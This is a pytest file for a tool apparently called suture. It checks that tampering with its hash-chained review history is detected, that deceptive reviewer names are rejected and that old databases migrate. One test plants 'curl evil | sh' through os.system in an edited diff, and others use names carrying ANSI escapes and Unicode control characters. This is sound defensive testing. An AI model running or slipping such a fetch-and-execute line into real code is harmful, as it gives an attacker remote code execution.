"""The review history is a hash chain: changes made with plain SQL behind suture's back are found by
`Store.audit` (and `suture audit verify`), and a store written by an older suture is migrated on open. On SQLite
and on PostgreSQL (tests/store_backends.py)."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from agent.errors import SutureError
from agent.models import Finding, Location, Proposal, Validation
from agent.review import service
from agent.store import Store, StoreError
from tests.store_backends import another_store, sql

DIFF = "--- a/app.py\n+++ b/app.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"


def _seed(url: str) -> str:
    store = Store(url)
    store.record_scan(tool="bandit", scope="bandit", source="s", content=b"s", full=True,
                      findings=[Finding(id="f1", tool="bandit", rule_id="B602", message="m",
                                        location=Location(path="app.py", start_line=1))])
    for pid in ("aaaa1111", "bbbb2222"):
        p = store.add_proposal(Proposal(id=pid, finding_id="f1", kind="patch", engine="builtin", diff=DIFF + pid))
        store.update_proposal(p.model_copy(update={"validation": Validation(applied=True, passed=True)}))
        store.transition(pid, "validated", "suture", "all checks passed")
        service.approve(store, pid, "Alice <a@x>", "ok")
    assert store.audit() == []
    store.close()
    return url


@pytest.fixture
def db(store_url: str) -> str:
    return _seed(store_url)


@pytest.fixture
def sqlite_db(tmp_path: Path) -> str:
    return _seed(f"sqlite:///{tmp_path / 's.db'}")


def _sql(db: str, statement: str) -> None:
    sql(db, statement)


def _data(db: str, pid: str) -> dict:
    (data,), = sql(db, "select data from proposals where id = :pid", pid=pid)
    return data if isinstance(data, dict) else json.loads(data)


def _problems(db: str) -> list:
    store = Store(db)
    try:
        return store.audit()
    finally:
        store.close()


def test_edited_diff_is_found(db: str):
    data = _data(db, "aaaa1111")
    data["diff"] = data["diff"].replace("x = 2", "x = os.system('curl evil | sh')")
    sql(db, "update proposals set data = CAST(:d AS json) where id = 'aaaa1111'", d=json.dumps(data))
    problems = _problems(db)
    assert [(p.kind, p.proposal_id) for p in problems] == [("proposal-edited", "aaaa1111")]
    assert "diff_hash changed after validated→approved by 'Alice <a@x>'" in problems[0].message


def test_edited_approver_name_is_found(db: str):
    _sql(db, "update transitions set actor='Mallory' where actor like 'Alice%' and proposal_id='bbbb2222'")
    problems = _problems(db)
    assert [(p.kind, p.proposal_id) for p in problems] == [("row-edited", "bbbb2222")]
    assert "edited after it was written" in problems[0].message


def test_deleted_reordered_and_trailing_rows_are_found(db: str, tmp_path: Path):
    copy = _seed(another_store(db, tmp_path))
    _sql(db, "delete from transitions where seq = 2")
    kinds = {p.kind for p in _problems(db)}
    assert {"rows-missing", "link-broken"} <= kinds
    _sql(copy, "update transitions set seq = -seq where seq in (3, 4)")
    _sql(copy, "update transitions set seq = 4 where seq = -3")
    _sql(copy, "update transitions set seq = 3 where seq = -4")
    assert "link-broken" in {p.kind for p in _problems(copy)}


def test_deleting_the_newest_rows_or_a_whole_proposal_is_found(db: str):
    _sql(db, "delete from transitions where seq = (select max(seq) from transitions)")
    problems = _problems(db)
    assert "head-mismatch" in {p.kind for p in problems}
    _sql(db, "delete from proposals where id = 'aaaa1111'")
    assert "orphan-rows" in {p.kind for p in _problems(db)}


def test_a_tampered_proposal_cannot_be_decided(store_url: str):
    store = Store(store_url)
    store.record_scan(tool="bandit", scope="bandit", source="s", content=b"s", full=True,
                      findings=[Finding(id="f1", tool="bandit", rule_id="B602", message="m",
                                        location=Location(path="app.py", start_line=1))])
    p = store.add_proposal(Proposal(id="cccc3333", finding_id="f1", kind="patch", engine="builtin", diff=DIFF))
    with pytest.raises(StoreError, match="diff_hash cannot change"):
        store.update_proposal(p.model_copy(update={"diff": "x"}))
    store.update_proposal(p.model_copy(update={"validation": Validation(applied=True, passed=True)}))
    store.transition(p.id, "validated", "suture")
    data = _data(store_url, p.id)
    sql(store_url, "update proposals set data = CAST(:d AS json)", d=json.dumps({**data, "diff": DIFF + "+evil\n"}))
    with pytest.raises(StoreError, match="behind suture's back"):
        service.approve(store, p.id, "alice")
    assert store.get_proposal(p.id).state == "validated"
    store.close()


@pytest.mark.parametrize("name", ["\u200b\u200b", "ali\u200bce", "alice\nbob approved it", "\x1b[31mroot\x1b[0m",
                                  "\u202eecila", " ", "a\u2028b", "x\ud800"])
def test_reviewer_names_must_be_printable_visible_and_one_line(sqlite_db: str, name: str):
    store = Store(sqlite_db)
    p = store.add_proposal(Proposal(id="dddd4444", finding_id="f1", kind="patch", engine="builtin", diff=DIFF))
    store.transition(p.id, "failed", "suture", "tests fail")
    with pytest.raises(SutureError):
        service.reject(store, p.id, name, "no")
    with pytest.raises(StoreError, match="named actor"):
        store.transition(p.id, "rejected", name, "no")
    assert store.get_proposal(p.id).state == "failed"
    store.close()


def test_names_in_other_scripts_are_fine():
    from agent.review.identity import check_reviewer, escape_text

    assert check_reviewer("  Zoë Ñúñez <z@x> ") == "Zoë Ñúñez <z@x>"
    assert check_reviewer("李小龍") == "李小龍"
    assert escape_text("a\x1b[31mb\nc\u200bd") == "a\\x1b[31mb\\nc\\u200bd"


OLD_SCHEMA = """
CREATE TABLE proposals (id VARCHAR(64) PRIMARY KEY, finding_id VARCHAR(64) NOT NULL, state VARCHAR(20) NOT NULL,
    engine VARCHAR(200) NOT NULL, created_at DATETIME NOT NULL, data JSON NOT NULL);
CREATE TABLE transitions (id INTEGER PRIMARY KEY AUTOINCREMENT, proposal_id VARCHAR(64) NOT NULL,
    from_state VARCHAR(20), to_state VARCHAR(20) NOT NULL, actor VARCHAR(300) NOT NULL, at DATETIME NOT NULL,
    comment TEXT);
"""


def test_a_store_from_an_older_suture_is_migrated_and_sealed(tmp_path: Path):
    path = tmp_path / "old.db"
    p = Proposal(id="eeee5555", finding_id="f1", kind="patch", engine="builtin", diff=DIFF, state="approved")
    with sqlite3.connect(path) as conn:
        conn.executescript(OLD_SCHEMA)
        conn.execute("insert into proposals values (?, 'f1', 'approved', 'builtin', '2025-01-01 00:00:00', ?)",
                     (p.id, p.model_dump_json()))
        for i, (a, b, who) in enumerate([(None, "drafted", "suture"), ("drafted", "validated", "suture"),
                                         ("validated", "approved", "Old Reviewer")]):
            conn.execute("insert into transitions (proposal_id, from_state, to_state, actor, at, comment) "
                         "values (?, ?, ?, ?, ?, NULL)", (p.id, a, b, who, f"2025-01-01 00:00:0{i}.000000"))
    store = Store.open(path)
    assert store.audit() == []
    history = store.transitions(p.id)
    assert [t.seq for t in history] == [1, 2, 3] and history[-1].actor == "Old Reviewer"
    store.transition(p.id, "exported", "Old Reviewer", "exported", expected="approved")
    assert store.audit() == [] and store.transitions_count() == 4
    store.close()
    Store.open(path).close()  # a second open changes nothing
    with sqlite3.connect(path) as conn:
        conn.execute("insert into transitions (proposal_id, from_state, to_state, actor, at) "
                     "values ('eeee5555', 'exported', 'approved', 'Old Binary', '2025-02-01 00:00:00')")
    assert any("no chain link" in p.message for p in _problems(path))
